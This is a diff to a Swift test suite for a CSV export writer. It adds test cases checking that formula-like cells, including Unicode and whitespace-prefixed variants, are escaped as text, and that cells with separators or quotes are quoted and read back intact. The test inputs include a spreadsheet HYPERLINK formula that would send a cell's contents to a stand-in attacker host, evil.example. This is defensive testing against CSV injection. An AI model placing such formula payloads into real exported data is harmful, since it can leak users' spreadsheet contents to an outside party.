@@ -59,7 +59,7 @@ struct ExportWriterTests {
 
     @Test("CSV cells that a spreadsheet would run as a formula are written as text", arguments: [
         "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1)", "\tindent", "\rreturn",
-        "=1,2",
+        "=1,2", " =1+1", "   @SUM(1)", "\u{FF1D}1+1", "\u{FF0B}1", " \u{FF20}x", "\n=1+1", "\u{A0}=1",
     ])
     func csvFormulas(text: String) throws {
         let csv = try export(.csv, [record(1, text: text)])
@@ -69,6 +69,17 @@ struct ExportWriterTests {
         #expect(textCell.hasPrefix("'"), "\(cell)")
         let reread = try QueryFileReader.parse(Data(csv.utf8), format: .csv, file: "export.csv")
         #expect(reread.first?.text == "'" + text)
+    }
+
+    @Test("a cell with either separator, a quote or a tab is quoted, and reads back whole", arguments: [
+        "a;b", "1;2;3", "say \"hi\"", "a\tb", "a,b",
+    ])
+    func csvSeparators(text: String) throws {
+        let csv = try export(.csv, [record(1, text: text)])
+        let row = try #require(csv.split(separator: "\r\n").dropFirst().first.map(String.init))
+        #expect(row.contains("\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\""), "\(row)")
+        let reread = try QueryFileReader.parse(Data(csv.utf8), format: .csv, file: "export.csv")
+        #expect(reread.first?.text == text)
     }
 
     @Test("JSONL is one object a line and reads back with the importer")
